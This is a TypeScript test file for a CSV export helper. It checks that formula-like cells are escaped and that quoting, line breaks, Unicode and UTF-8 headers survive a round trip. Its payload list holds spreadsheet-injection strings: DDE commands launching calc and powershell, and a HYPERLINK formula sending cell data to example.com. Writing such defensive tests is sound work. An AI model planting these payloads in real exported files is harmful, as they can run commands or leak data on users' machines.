import { text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type Cell, csvPieces } from './csv-pieces.ts'

async function* batchesOf(rows: Cell[][], size: number): AsyncGenerator<Cell[][]> {
  for (let from = 0; from < rows.length; from += size) yield rows.slice(from, from + size)
}

async function write(labels: string[], rows: Cell[][], size = 2): Promise<string> {
  return text(csvPieces(labels, batchesOf(rows, size), (row) => row))
}

const read = (text: string): string[][] => parse(text, { bom: true })

const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.com?"&A1,"Invoice")',
  "SUM(A1:A9)*cmd|'/C calc'!A0",
  'IMPORTXML("http://example.com","//a")',
  "2+5+cmd|' /C powershell'!A0",
  'A1',
  '"\r\n=1+1',
  ',=1+1',
  'nothing',
]
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`))

test(`${PAYLOADS.length} formulas are inert: no cell begins like one, and none begins a cell of its own`, async () => {
  const lines = read(
    await write(
      ['Name', 'Suburb'],
      PAYLOADS.map((payload) => [payload, 'Kew']),
    ),
  )
  expect(lines.slice(1)).toEqual(PAYLOADS.map((payload) => [`'${payload}`, 'Kew']))
})

test('a negative amount stays a number', async () => {
  expect(read(await write(['Permit Cost'], [[-225]]))).toEqual([['Permit Cost'], ['-225']])
})

test('line breaks, quotes, commas, accents and emoji come back as they were', async () => {
  const texts = [
    'two\nlines',
    'two\r\nlines',
    'old\rMac',
    'say "no", twice',
    '"',
    'Éva O’Brien 🚛',
    '漢字',
    ' a ',
    '',
  ]
  const lines = read(
    await write(
      ['Comments', 'End'],
      texts.map((text) => [text, 'x']),
    ),
  )
  expect(lines.slice(1)).toEqual(texts.map((text) => [text, 'x']))
})

test('any text comes back, made inert where it begins like a formula', async () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...',"\r\n;\' =\t') }),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(cell, cell), { maxLength: 6 }), async (rows) => {
      const inert = (cell: string) => (STARTS.some((start) => cell.startsWith(start)) ? `'${cell}` : cell)
      const lines = read(await write(['A', 'B'], rows))
      expect(lines.slice(1)).toEqual(rows.map((row) => row.map(inert)))
    }),
    { seed: Number(process.env.FUZZ_SEED ?? 20_261_121) },
  )
})

test('the file says that it is UTF-8, ends its lines as spreadsheets expect, and has its labels also when empty', async () => {
  expect(await write(['Name', 'Suburb'], [])).toBe('\uFEFFName,Suburb\r\n')
  expect(await write(['Name'], [['Éva'], ['Al'], ['Bo']])).toBe('\uFEFFName\r\nÉva\r\nAl\r\nBo\r\n')
})
